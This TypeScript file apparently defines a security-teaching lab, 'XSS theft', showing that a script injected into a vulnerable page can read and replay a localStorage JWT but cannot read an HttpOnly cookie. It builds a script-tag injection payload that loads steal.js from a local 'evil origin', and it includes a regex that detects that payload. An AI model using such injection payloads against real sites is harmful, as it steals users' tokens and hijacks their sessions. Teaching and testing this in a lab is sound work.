import { API_PATHS } from '../../../shared/api/paths.ts';
import { SEEN_COOKIE_HEADER, STOLEN_BY_HEADER, XSS_PAGE_PATH } from '../../../shared/api/lab-attacks.ts';
import type { HttpEvent } from '../../../shared/inspector-events.ts';
import { api } from '../api/client.ts';
import { holdsSessionCookie } from './attack-evidence.ts';
import { describeExchange, exchanges, requestHeader } from './evidence.ts';
import { bearerOf, issuerOf } from './jwt-evidence.ts';
import { cookieLogin, signOutBoth, tokenLogin } from './lab-actions.ts';
import { closeLabFrame, openLabFrame } from './lab-frame.ts';
import type { Evidence, Lab, LabContext } from './lab-types.ts';

/** Opens the vulnerable page with the evil origin's script in its `name`. */
async function inject(context: LabContext): Promise<void> {
  const { url } = await api.lab.evilOrigin(context.labKey);
  const name = `<script src="${url}/steal.js"></script>`;
  await openLabFrame(`${XSS_PAGE_PATH}?name=${encodeURIComponent(name)}`);
}

/** The loads of the vulnerable page whose query carried a script from another origin. */
function injectedLoads(evidence: Evidence): HttpEvent[] {
  return exchanges(evidence, {
    method: 'GET',
    path: XSS_PAGE_PATH,
    status: 200,
    where: (exchange) => {
      const name = new URLSearchParams(exchange.path.split('?')[1] ?? '').get('name') ?? '';
      return /<script\s+src="?https?:\/\/[^"\s>]+\/steal\.js/i.test(name);
    },
  });
}

/** The evil script's replays (its own header says so). */
const stolenCalls = (evidence: Evidence, status?: number) =>
  exchanges(evidence, { method: 'GET', path: API_PATHS.tokenData, ...(status === undefined ? {} : { status }), where: (exchange) => requestHeader(exchange, STOLEN_BY_HEADER) === 'evil-script' });

/** Lab 5: a script injected into a page can read a token in localStorage and use it; it cannot read an HttpOnly cookie. */
export const xssTheftLab: Lab = {
  id: 'xss-theft',
  number: 5,
  title: 'XSS theft',
  concept: 'Sessions vs JWT: what a script can steal',
  goal:
    'Let a script from an evil origin (another loopback port, another site) into a deliberately vulnerable page of this app, and see what it can take: ' +
    'the token in localStorage, which it replays from the page with success, but not the HttpOnly session cookie, which document.cookie never shows to a script.',
  steps: [
    { kind: 'action', id: 'cookie-login', label: 'Log in with a cookie session (alice)', run: (context) => cookieLogin(context), explain: 'POST /session/login: an HttpOnly cookie' },
    { kind: 'action', id: 'token-login', label: 'Log in for a token (alice)', run: (context) => tokenLogin(context), explain: 'POST /token/login: the page keeps the token in localStorage' },
    {
      kind: 'instruction',
      id: 'httponly',
      text: 'HttpOnly keeps a cookie out of document.cookie: the browser still sends it with every request of the page, but no script can read it. localStorage has no such flag: any script running in the page reads it.',
    },
    {
      kind: 'action',
      id: 'inject',
      label: 'Open the vulnerable page with the injected script',
      run: inject,
      explain: `GET ${XSS_PAGE_PATH}?name=<script src="http://localhost:<evil port>/steal.js">, in a hidden frame`,
    },
    { kind: 'action', id: 'loot', label: 'Ask the evil origin what it received', run: async (context) => void (await api.lab.loot(context.labKey)), explain: `GET ${API_PATHS.labEvilOriginLoot}` },
  ],
  checks: [
    {
      id: 'page-injected',
      label: 'The vulnerable page was loaded with a script tag from another origin in its query',
      proof: (evidence) => {
        const load = injectedLoads(evidence)[0];
        return load ? `${describeExchange(load)}, name=${decodeURIComponent(load.path.split('name=')[1] ?? '').slice(0, 70)}` : null;
      },
    },
    {
      id: 'token-replayed',
      label: 'The script read the token from localStorage and used it: GET /token/data → 200 with the victim’s token',
      proof: (evidence) => {
        for (const call of stolenCalls(evidence, 200)) {
          const token = bearerOf(call);
          const issuer = token && issuerOf(evidence, token.compact);
          if (issuer) return `${describeExchange(call)}, ${STOLEN_BY_HEADER}: evil-script, with the token issued by exchange #${issuer.id}`;
        }
        return null;
      },
    },
    {
      id: 'cookie-invisible',
      label: 'The same request carried the HttpOnly session cookie (the browser sent it), yet document.cookie did not show it to the script',
      proof: (evidence) => {
        const call = stolenCalls(evidence).find((exchange) => holdsSessionCookie(requestHeader(exchange, 'cookie')) && !holdsSessionCookie(requestHeader(exchange, SEEN_COOKIE_HEADER)));
        return call ? `${describeExchange(call)}: Cookie has sl_session=…, while the script saw ${SEEN_COOKIE_HEADER}: "${requestHeader(call, SEEN_COOKIE_HEADER)}"` : null;
      },
    },
    {
      id: 'loot-home',
      label: 'The token reached the evil origin; the session cookie did not',
      proof: (evidence) => {
        for (const answer of exchanges(evidence, { method: 'GET', path: API_PATHS.labEvilOriginLoot, status: 200 })) {
          const loot = (JSON.parse(answer.responseBody ?? '{"loot":[]}') as { loot: { token: string; cookie: string }[] }).loot;
          for (const report of loot) {
            const ending = report.token.split('…')[1];
            const stolen = ending && stolenCalls(evidence, 200).find((call) => bearerOf(call)?.compact.endsWith(ending));
            if (stolen && !holdsSessionCookie(report.cookie)) return `${describeExchange(answer)}: token ${report.token} (the one of exchange #${stolen.id}), cookie "${report.cookie}"`;
          }
        }
        return null;
      },
    },
  ],
  reset: async (context) => {
    closeLabFrame();
    await api.lab.forgetLoot(context.labKey);
    await signOutBoth(context);
  },
};
